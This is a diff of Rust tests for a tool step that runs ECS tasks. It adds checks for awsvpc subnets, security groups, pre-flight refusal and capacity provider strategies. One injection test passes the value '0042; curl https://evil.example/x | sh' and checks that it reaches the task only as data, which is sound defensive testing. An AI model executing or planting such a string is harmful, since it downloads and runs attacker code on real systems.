@@ -46,6 +46,17 @@ async fn service_with_images_in(aws: &Aws, registry: &str) {
         .expect("vpc")
         .vpc
         .and_then(|v| v.vpc_id);
+    // moto gives an awsvpc task its network interface only in a VPC with DNS hostnames.
+    ec2.modify_vpc_attribute()
+        .set_vpc_id(vpc.clone())
+        .enable_dns_hostnames(
+            aws_sdk_ec2::types::AttributeBooleanValue::builder()
+                .value(true)
+                .build(),
+        )
+        .send()
+        .await
+        .expect("dns hostnames");
     let subnet = ec2
         .create_subnet()
         .set_vpc_id(vpc.clone())
@@ -327,9 +338,91 @@ async fn deploy_failures_name_the_service_or_the_missing_revision() {
     assert_eq!(both.name, ErrorName::InvalidInput, "{both}");
 }
 
-/// A one-off task family in bridge mode: moto 5.2.5 fails RunTask for awsvpc tasks (its ENI has no
-/// `private_dns_name`), so the network taken from a service is checked in the crate's unit tests instead.
-async fn migration(aws: &Aws) {
+/// The task runs in the service's network: its interface is in the service's subnet.
+#[tokio::test]
+async fn run_task_runs_in_the_network_of_the_service_it_names() {
+    let aws = Aws::start().await;
+    service(&aws).await;
+    let step = Step::new(
+        "ecs.run_task",
+        json!({"cluster": CLUSTER, "task_definition": "web:3", "service": "web"}),
+    );
+    crate::check_ok(&aws, &step).await;
+    let out = output(step.run(&aws).await);
+    let ecs = aws.clients.aws(aws_sdk_ecs::Client::new);
+    let described = ecs
+        .describe_tasks()
+        .cluster(CLUSTER)
+        .tasks(str_of(&out, "task_arn"))
+        .send()
+        .await
+        .expect("describe");
+    let subnet_of_task = described.tasks()[0]
+        .attachments()
+        .iter()
+        .flat_map(|a| a.details())
+        .find(|d| d.name() == Some("subnetId"))
+        .and_then(|d| d.value())
+        .map(str::to_owned);
+    let services = ecs
+        .describe_services()
+        .cluster(CLUSTER)
+        .services("web")
+        .send()
+        .await
+        .expect("service");
+    let subnet_of_service = services.services()[0]
+        .network_configuration()
+        .and_then(|n| n.awsvpc_configuration())
+        .map(|a| a.subnets()[0].clone());
+    assert!(subnet_of_task.is_some());
+    assert_eq!(subnet_of_task, subnet_of_service);
+}
+
+/// An awsvpc task definition (every Fargate one) with no service and no subnets: ECS would refuse RunTask
+/// ("required for task definitions that use the awsvpc network mode"), so the check says so before an
+/// incident and the step fails before calling it.
+#[tokio::test]
+async fn run_task_without_a_network_for_an_awsvpc_task_is_refused_before_run_task() {
+    let aws = Aws::start().await;
+    service(&aws).await;
+    let step = Step::new(
+        "ecs.run_task",
+        json!({"cluster": CLUSTER, "task_definition": "web:3", "container": "app", "command": ["migrate"]}),
+    );
+    let out = output(crate::invoke(&aws, "ecs.run_task", step.payload("check", None)).await);
+    let definition = out["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .find(|f| f["resource"] == "task definition `web:3`")
+        .expect("the task definition's finding")
+        .clone();
+    assert_eq!(definition["verdict"], "not_ready", "{definition:#}");
+    assert!(
+        definition["fix"]
+            .as_str()
+            .is_some_and(|f| f.contains("`service`") && f.contains("`subnets`")),
+        "{definition:#}"
+    );
+    let failure = error(step.start(&aws).await);
+    assert_eq!(failure.name, ErrorName::Precondition, "{failure}");
+    assert!(failure.message.contains("awsvpc"), "{failure}");
+    let listed = aws
+        .clients
+        .aws(aws_sdk_ecs::Client::new)
+        .list_tasks()
+        .cluster(CLUSTER)
+        .send()
+        .await
+        .expect("list");
+    assert_eq!(listed.task_arns(), [] as [String; 0]);
+}
+
+/// A one-off Fargate task family (awsvpc), and a subnet for it in a VPC with DNS hostnames (which moto needs to
+/// give the task its interface). Returns the subnet and a security group: moto 5.2.5 answers 500 to an awsvpc
+/// RunTask without `securityGroups`, which AWS fills with the VPC's default group.
+async fn migration(aws: &Aws) -> (String, String) {
     aws.clients
         .aws(aws_sdk_ecs::Client::new)
         .create_cluster()
@@ -341,6 +434,10 @@ async fn migration(aws: &Aws) {
         .aws(aws_sdk_ecs::Client::new)
         .register_task_definition()
         .family("migrate")
+        .network_mode(NetworkMode::Awsvpc)
+        .requires_compatibilities(Compatibility::Fargate)
+        .cpu("256")
+        .memory("512")
         .container_definitions(
             ContainerDefinition::builder()
                 .name("app")
@@ -352,15 +449,56 @@ async fn migration(aws: &Aws) {
         .send()
         .await
         .expect("task definition");
+    let ec2 = &aws.clients.aws(aws_sdk_ec2::Client::new);
+    let vpc = ec2
+        .create_vpc()
+        .cidr_block("10.4.0.0/16")
+        .send()
+        .await
+        .expect("vpc")
+        .vpc
+        .and_then(|v| v.vpc_id);
+    ec2.modify_vpc_attribute()
+        .set_vpc_id(vpc.clone())
+        .enable_dns_hostnames(
+            aws_sdk_ec2::types::AttributeBooleanValue::builder()
+                .value(true)
+                .build(),
+        )
+        .send()
+        .await
+        .expect("dns hostnames");
+    let subnet = ec2
+        .create_subnet()
+        .set_vpc_id(vpc.clone())
+        .cidr_block("10.4.1.0/24")
+        .send()
+        .await
+        .expect("subnet")
+        .subnet
+        .and_then(|s| s.subnet_id)
+        .expect("subnet id");
+    let group = ec2
+        .create_security_group()
+        .group_name("migrate")
+        .description("migrate")
+        .set_vpc_id(vpc)
+        .send()
+        .await
+        .expect("security group")
+        .group_id
+        .expect("group id");
+    (subnet, group)
 }
 
 #[tokio::test]
 async fn run_task_overrides_the_command_and_waits_until_stopped() {
     let aws = Aws::start().await;
-    migration(&aws).await;
+    let (subnet, group) = migration(&aws).await;
     let step = Step::new(
         "ecs.run_task",
-        json!({"cluster": CLUSTER, "task_definition": "migrate", "container": "app", "command": ["migrate", "--down", "1"]}),
+        json!({"cluster": CLUSTER, "task_definition": "migrate", "container": "app", "command": ["migrate", "--down", "1"],
+               "subnets": [subnet], "security_groups": [group]}),
     );
     crate::check_ok(&aws, &step).await;
     let out = output(step.run(&aws).await);
@@ -386,12 +524,12 @@ async fn run_task_overrides_the_command_and_waits_until_stopped() {
 #[tokio::test]
 async fn a_value_in_an_sh_c_script_reaches_the_task_as_data() {
     let aws = Aws::start().await;
-    migration(&aws).await;
+    let (subnet, group) = migration(&aws).await;
     let hostile = "0042; curl https://evil.example/x | sh";
     let step = Step::new(
         "ecs.run_task",
-        json!({"cluster": CLUSTER, "task_definition": "migrate", "container": "app",
-               "command": ["sh", "-c", ["./migrate down ", hostile, " && echo done"], hostile]}),
+        json!({"cluster": CLUSTER, "task_definition": "migrate", "container": "app", "subnets": [subnet],
+               "security_groups": [group], "command": ["sh", "-c", ["./migrate down ", hostile, " && echo done"], hostile]}),
     );
     let out = output(step.run(&aws).await);
     let described = aws
@@ -421,10 +559,10 @@ async fn a_value_in_an_sh_c_script_reaches_the_task_as_data() {
 #[tokio::test]
 async fn a_retried_run_task_start_runs_one_task() {
     let aws = Aws::start().await;
-    migration(&aws).await;
+    let (subnet, group) = migration(&aws).await;
     let step = Step::new(
         "ecs.run_task",
-        json!({"cluster": CLUSTER, "task_definition": "migrate"}),
+        json!({"cluster": CLUSTER, "task_definition": "migrate", "subnets": [subnet], "security_groups": [group]}),
     );
     let first = step.start(&aws).await.expect("first start");
     let second = step.start(&aws).await.expect("retried start");
@@ -467,8 +605,9 @@ mod mocked {
     use aws_sdk_ecs::operation::run_task::RunTaskOutput;
     use aws_sdk_ecs::operation::update_service::UpdateServiceOutput;
     use aws_sdk_ecs::types::{
-        AwsVpcConfiguration, Container, ContainerDefinition, Deployment, DeploymentRolloutState,
-        LaunchType, NetworkConfiguration, Service, Task, TaskDefinition, TaskStopCode,
+        AwsVpcConfiguration, CapacityProviderStrategyItem, Container, ContainerDefinition,
+        Deployment, DeploymentRolloutState, LaunchType, NetworkConfiguration, Service, Task,
+        TaskDefinition, TaskStopCode,
     };
     use aws_smithy_mocks::{Rule, RuleMode, mock, mock_client};
     use catalog::contract::Status;
@@ -624,13 +763,76 @@ mod mocked {
                     .build()
             });
         let stopped = mock!(Client::describe_tasks).then_output(|| stopped(0));
-        ecs(&aws, &[&described, &none_yet, &run, &stopped]);
+        let definition = mock!(Client::describe_task_definition).then_output(|| {
+            DescribeTaskDefinitionOutput::builder()
+                .task_definition(revision(3))
+                .build()
+        });
+        ecs(&aws, &[&described, &definition, &none_yet, &run, &stopped]);
         let step = Step::new(
             "ecs.run_task",
             json!({"cluster": "prod", "task_definition": "web:3", "service": "web"}),
         );
         let out = output(step.run(&aws).await);
         assert_eq!(str_of(&out, "task_arn"), "arn:task/1");
+        assert_eq!(run.num_calls(), 1);
+    }
+
+    /// A service on a capacity provider strategy has no launch type: the task takes the strategy, and is not
+    /// forced onto FARGATE (ECS refuses a launch type beside a strategy).
+    #[tokio::test]
+    async fn run_task_takes_the_capacity_provider_strategy_of_the_service() {
+        let aws = Aws::start().await;
+        let network = NetworkConfiguration::builder()
+            .awsvpc_configuration(
+                AwsVpcConfiguration::builder()
+                    .subnets("subnet-a")
+                    .build()
+                    .expect("awsvpc"),
+            )
+            .build();
+        let strategy = CapacityProviderStrategyItem::builder()
+            .capacity_provider("FARGATE_SPOT")
+            .weight(1)
+            .build()
+            .expect("strategy");
+        let on_spot = strategy.clone();
+        let described = mock!(Client::describe_services).then_output(move || {
+            let service = Service::builder()
+                .service_name("web")
+                .status("ACTIVE")
+                .task_definition(format!("{ARN}:3"))
+                .network_configuration(network.clone())
+                .capacity_provider_strategy(on_spot.clone())
+                .build();
+            DescribeServicesOutput::builder().services(service).build()
+        });
+        let definition = mock!(Client::describe_task_definition).then_output(|| {
+            DescribeTaskDefinitionOutput::builder()
+                .task_definition(revision(3))
+                .build()
+        });
+        let none_yet = mock!(Client::list_tasks)
+            .sequence()
+            .output(|| ListTasksOutput::builder().build())
+            .repeatedly()
+            .build();
+        let run = mock!(Client::run_task)
+            .match_requests(move |r| {
+                r.launch_type().is_none() && r.capacity_provider_strategy() == [strategy.clone()]
+            })
+            .then_output(|| {
+                RunTaskOutput::builder()
+                    .tasks(Task::builder().task_arn("arn:task/1").build())
+                    .build()
+            });
+        let stopped = mock!(Client::describe_tasks).then_output(|| stopped(0));
+        ecs(&aws, &[&described, &definition, &none_yet, &run, &stopped]);
+        let step = Step::new(
+            "ecs.run_task",
+            json!({"cluster": "prod", "task_definition": "web:3", "service": "web"}),
+        );
+        output(step.run(&aws).await);
         assert_eq!(run.num_calls(), 1);
     }
 
